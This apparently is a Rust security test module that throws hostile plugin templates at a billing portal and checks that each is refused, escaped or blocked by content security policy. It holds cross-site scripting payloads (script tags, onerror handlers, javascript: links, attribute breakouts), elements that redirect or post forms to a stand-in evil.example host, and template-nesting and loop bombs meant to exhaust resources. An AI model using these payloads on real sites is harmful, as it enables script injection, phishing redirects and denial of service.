//! Templates that would break out of their region, run a script, or never end.

use tollgate_billing::plugin::PluginState;
use tollgate_billing::ports::Plugins;
use tollgate_guests::guest::{Guest, gateway};
use tollgate_guests::value::{Value, bare, case, record, text};

use super::rooms_stand;
use crate::attack::{Attack, Verdict};
use crate::ground::Ground;
use crate::house::{ANNAS, House, Setup};
use crate::rooms::{Plan, Rooms};

/// Each: name, what it tries, the template, what the refusal says.
type Row = (&'static str, &'static str, &'static str, &'static str);

const SOURCES: [Row; 21] = [
    ("raw-html", "writes what a client typed without escaping", "{{{data.html}}}", "“{{{”"),
    ("raw-html-by-ampersand", "the same by another sign", "{{& data.html}}", "“{{{”"),
    ("raw-block", "writes a block that is not read", "{{{{raw}}}}<script>{{{{/raw}}}}", "no helper"),
    ("inline-script", "brings a script", "<script>alert(1)</script>", "<script> is not for plugins"),
    ("script-in-capitals", "brings a script in capitals", "<SCRIPT>alert(1)</SCRIPT>", "small letters"),
    (
        "script-by-event",
        "runs a script when a picture fails",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "attribute “onerror”",
    ),
    ("script-in-svg", "hides a script in a drawing", "<svg onload=\"alert(1)\"></svg>", "<svg>"),
    ("frame", "draws a page of its own over the portal", "<iframe src=\"https://evil.example\"></iframe>", "<iframe>"),
    ("base-address", "turns every link of the page", "<base href=\"https://evil.example\">", "<base>"),
    (
        "refresh",
        "sends the client away without a word",
        "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
        "<meta>",
    ),
    (
        "form-elsewhere",
        "posts the client's words to a stranger",
        "<form action=\"https://evil.example\"></form>",
        "<form>",
    ),
    (
        "button-elsewhere",
        "posts the host's form to a stranger",
        "<button formaction=\"https://evil.example\">a</button>",
        "“formaction”",
    ),
    ("style-sheet", "hides the portal under a style", "<style>*{display:none}</style>", "<style>"),
    (
        "style-attribute",
        "reads what is typed by a picture in a style",
        "<p style=\"background:url(//evil.example)\">a</p>",
        "“style”",
    ),
    ("style-link", "loads a stranger's style", "<link rel=\"stylesheet\" href=\"//evil.example/a.css\">", "<link>"),
    ("tag-from-data", "chooses a tag by its data", "<{{data.tag}}>a", "between the quotes"),
    ("attribute-from-data", "writes attributes by its data", "<p {{data.attributes}}>a</p>", "between the quotes"),
    ("open-tag", "leaves a tag open, to take the portal in", "<div>", "is not closed"),
    ("closed-tag", "closes a tag of the portal", "</div></main>", "was not opened"),
    ("host-template", "draws the portal's own layout within itself", "{{> portal/layout}}", "no template"),
    ("template-of-itself", "stands within itself", "{{> page}}", "uses itself"),
];

const MORE: [Row; 4] = [
    ("helper-of-the-host", "calls a helper that only the host has", "{{content data}}", "no helper"),
    ("helper-by-data", "chooses a template by its data", "{{> (lookup data \"name\")}}", "named in full"),
    ("decorator", "redefines how pages are drawn", "{{#*inline \"x\"}}a{{/inline}}", "inline"),
    ("comment", "hides a browser's own comment", "<!--[if IE]><script>alert(1)</script><![endif]-->", "comments"),
];

pub fn attacks() -> Vec<Attack> {
    let mut attacks: Vec<Attack> = SOURCES.iter().chain(&MORE).map(|row| source(*row)).collect();
    attacks.extend([
        made("nested-blocks", "nests its blocks five thousand deep", || "{{#if a}}".repeat(5_000), "opens more than"),
        made(
            "nested-brackets",
            "nests its brackets three thousand deep",
            || format!("{{{{t {}}}}}", "(t ".repeat(3_000)),
            "",
        ),
        made("template-of-a-megabyte", "brings a template of a megabyte", || "x".repeat(1 << 20), "longer than"),
        doubling(),
        translations(),
    ]);
    attacks.extend(rendered());
    attacks.push(logo());
    attacks
}

fn template(name: &str, source: &str) -> Value {
    record(&[("name", text(name)), ("source", text(source))])
}

fn drawing(source: &str) -> Guest {
    gateway().answers("describe", "assets.templates", Value::List(vec![template("page", source)]))
}

async fn refused(ground: &Ground, guest: Guest, words: &str) -> Verdict {
    let rooms = Rooms::around(ground.patient(), &guest).await;
    let row = rooms.sandbox.rows().into_iter().find(|row| row.file == "acme.wasm");
    match row.map(|row| row.state) {
        Some(PluginState::Broken(why)) if why.contains(words) => rooms_stand(&rooms, why).await,
        other => Err(format!("{other:?}")),
    }
}

fn source((name, tries, source, words): Row) -> Attack {
    Attack::new("templates", name, tries, move |ground: Ground| async move {
        refused(&ground, drawing(source), words).await
    })
}

fn made(name: &'static str, tries: &'static str, source: fn() -> String, words: &'static str) -> Attack {
    Attack::new("templates", name, tries, move |ground: Ground| async move {
        refused(&ground, drawing(&source()), words).await
    })
}

fn doubling() -> Attack {
    let tries = "draws each of its templates twice within the next";
    Attack::new("templates", "doubling", tries, |ground: Ground| async move {
        let twice = |n: usize| template(&format!("t{n}"), &format!("{{{{> t{0}}}}}{{{{> t{0}}}}}", n + 1));
        let mut templates: Vec<Value> = (0..15).map(twice).collect();
        templates.push(template("t15", "x"));
        let guest = gateway().answers("describe", "assets.templates", Value::List(templates));
        refused(&ground, guest, "more than 64 templates").await
    })
}

fn translations() -> Attack {
    let tries = "brings a translation that does not parse";
    Attack::new("templates", "broken-translation", tries, |ground: Ground| async move {
        let translation = record(&[("locale", text("en")), ("source", text("a = {"))]);
        let guest = gateway().answers("describe", "assets.translations", Value::List(vec![translation]));
        refused(&ground, guest, "en.ftl").await
    })
}

/// Templates that are taken, and what becomes of the page that they draw: an address and the data.
fn rendered() -> Vec<Attack> {
    let list = || format!("{{\"l\": [{}]}}", vec!["1"; 3_000].join(","));
    let long = || format!("{{\"l\": [{}], \"t\": \"{}\"}}", vec!["1"; 400].join(","), "x".repeat(1_000));
    vec![
        ends(
            "turns-without-end",
            "draws nine million turns",
            "{{#each data.l}}{{#each ../data.l}}{{/each}}{{/each}}",
            list,
        ),
        ends("output-without-end", "draws a page of half a megabyte", "{{#each data.l}}{{../data.t}}{{/each}}", long),
        ends("codes-without-end", "draws four hundred codes", "{{#each data.l}}{{qr \"payload\"}}{{/each}}", long),
        ends("code-of-a-novel", "draws a code of more than a code holds", "{{qr data.t}}{{qr data.t}}", long),
        shows("script-in-the-data", "writes a script by its data", "<p>{{data.x}}</p>", || {
            "{\"x\":\"<script>alert(1)</script>\"}".to_owned()
        }),
        shows("attribute-in-the-data", "leaves an attribute by its data", "<p title=\"{{data.x}}\">a</p>", || {
            "{\"x\":\"\\\"><script>alert(1)</script>\"}".to_owned()
        }),
        shows("script-link", "runs a script by a link", "<a href=\"javascript:alert(1)\">a</a>", || "{}".to_owned()),
        shows(
            "script-link-in-the-data",
            "runs a script by a link out of its data",
            "<a href=\"{{data.x}}\">a</a>",
            || "{\"x\":\"javascript:alert(1)\"}".to_owned(),
        ),
        shows(
            "picture-elsewhere",
            "tells a stranger who is here by a picture",
            "<img src=\"https://evil.example/a\" alt=\"\">",
            || "{}".to_owned(),
        ),
    ]
}

fn page(source: &str, data: String) -> Guest {
    let page = record(&[("template", text("page")), ("data", text(data)), ("slip", bare("none"))]);
    drawing(source).answers("pay-now", "ok.next", case("page", page))
}

async fn seen(ground: &Ground, guest: &Guest) -> (House, u16, axum::http::HeaderMap, String) {
    let house = House::open(Plan::of(ground.patient(), guest), Setup::default()).await;
    let (status, headers, body) = house.page(&format!("/billing/payments/{ANNAS}")).await;
    (house, status, headers, body)
}

/// The page ends as an error of its own, and the portal goes on.
fn ends(name: &'static str, tries: &'static str, source: &'static str, data: fn() -> String) -> Attack {
    Attack::new("templates", name, tries, move |ground: Ground| async move {
        let (house, status, _, body) = seen(&ground, &page(source, data())).await;
        let (after, _, _) = house.page("/billing/invoices").await;
        if status != 502 || after != 200 {
            return Err(format!("{status}, then {after}: {}", body.chars().take(200).collect::<String>()));
        }
        rooms_stand(&house.rooms, "502 for this page alone".to_owned()).await
    })
}

/// The page is drawn, and nothing of it runs or loads: it is escaped, or left out, or the page's policy forbids it.
fn shows(name: &'static str, tries: &'static str, source: &'static str, data: fn() -> String) -> Attack {
    Attack::new("templates", name, tries, move |ground: Ground| async move {
        let rooms = Rooms::around(ground.patient(), &page(source, data())).await;
        if let Ok(why) = rooms.refused() {
            return rooms_stand(&rooms, why).await;
        }
        let (house, status, headers, body) = seen(&ground, &page(source, data())).await;
        let is_drawn = status == 200;
        if (status != 200 && status != 502) || body.contains("<script>") || body.contains("javascript:") {
            return Err(format!("{status}, {body}"));
        }
        let policy = headers.get("content-security-policy").and_then(|value| value.to_str().ok()).unwrap_or_default();
        let rules = ["default-src 'none'", "script-src 'self';", "img-src 'self';", "style-src 'self';"];
        let forbids = rules.iter().all(|rule| policy.contains(rule));
        if !forbids {
            return Err(format!("{status}, {policy}"));
        }
        let how = if is_drawn {
            "drawn escaped; the page's policy lets nothing else run or load"
        } else {
            "502 for this page alone"
        };
        rooms_stand(&house.rooms, how.to_owned()).await
    })
}

fn logo() -> Attack {
    let tries = "runs a script in its logo, opened as a page";
    Attack::new("templates", "script-in-the-logo", tries, |ground: Ground| async move {
        let bytes = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
        let bytes = Value::List(bytes.bytes().map(|byte| Value::Int(i64::from(byte))).collect());
        let logo = record(&[("kind", bare("svg")), ("bytes", bytes)]);
        let guest = gateway().answers("describe", "assets.logo", case("some", logo));
        let house = House::open(Plan::of(ground.patient(), &guest), Setup::default()).await;
        let (status, headers, _) = house.page("/plugins/acme/logo").await;
        let header =
            |name: &str| headers.get(name).and_then(|value| value.to_str().ok()).unwrap_or_default().to_owned();
        let policy = header("content-security-policy");
        if status != 200
            || !policy.contains("sandbox")
            || !policy.contains("default-src 'none'")
            || header("x-content-type-options") != "nosniff"
        {
            return Err(format!("{status}, {headers:?}"));
        }
        rooms_stand(&house.rooms, policy).await
    })
}
